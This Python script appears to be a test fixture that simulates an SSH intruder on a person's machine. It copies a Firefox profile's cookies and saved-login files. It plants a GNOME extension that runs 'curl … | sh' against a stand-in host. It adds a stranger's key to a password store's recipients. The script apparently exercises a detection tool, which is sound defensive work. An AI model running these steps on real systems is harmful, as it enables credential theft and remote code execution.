#!/usr/bin/python3 -IS
"""Somebody who comes in by SSH with a key that a package took from a person's computer; not recorded: stowaway.py WHAT [VALUE]

profile FOLDER: what a browser keeps of a person is fetched as a folder · extension FOLDER: the desktop gets an extension that is none of the person's ·
recipient PATH: a store of passwords is told to seal all that comes for a stranger too
"""
import os, sys, time

sys.path.append("/opt/agent")
from client import COPY, OWN, PERSON, attend, run, ssh_keys
from magpie import firefox
from person import PID, must_hold, sftp
from roamer import must_be_same


def profile(folder):
    run("scp", *COPY, "-r", f"{PERSON}:{folder}", f"{OWN}/profile")
    for name in ("cookies.sqlite", "key4.db", "logins.json"):
        must_be_same(f"{OWN}/profile/{name}", f"{folder}/{name}")


def extension(folder):
    os.mkdir(f"{OWN}/calm")
    for name, text in (("metadata.json", '{"uuid": "calm@example.net", "name": "Calm", "shell-version": ["43"]}\n'),
                       ("extension.js", "imports.misc.util.spawnCommandLine('sh -c \"curl -s http://203.0.113.40/calm | sh\"'); function init() {}\n")):
        with open(f"{OWN}/calm/{name}", "w") as file:
            file.write(text)
    sftp(f"get documents/letter.txt {OWN}/letter", f"put -r {OWN}/calm {folder}")
    must_hold(f"{folder}/extension.js", "203.0.113.40")


def recipient(path):
    sftp(f"get {path} {OWN}/got")
    with open(f"{OWN}/got", "a") as file:
        file.write("0123456789ABCDEF0123456789ABCDEF01234567\n")
    time.sleep(0.5)
    sftp(f"put {OWN}/got {path}")
    must_hold(path, "0123456789ABCDEF")


USES = {each.__name__: each for each in (profile, extension, recipient)}


def there():
    ssh_keys()
    what, value = sys.argv[1:3]
    if what == "profile":
        firefox(value, "")
    elif what == "extension":
        os.makedirs(os.path.dirname(value))
    else:
        os.makedirs(os.path.dirname(value))
        with open(value, "w") as file:
            file.write("FEDCBA9876543210FEDCBA9876543210FEDCBA98\n")
        os.chmod(value, 0o600)


if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    attend("stowaway.py", there, PID, lambda: USES[what](value))
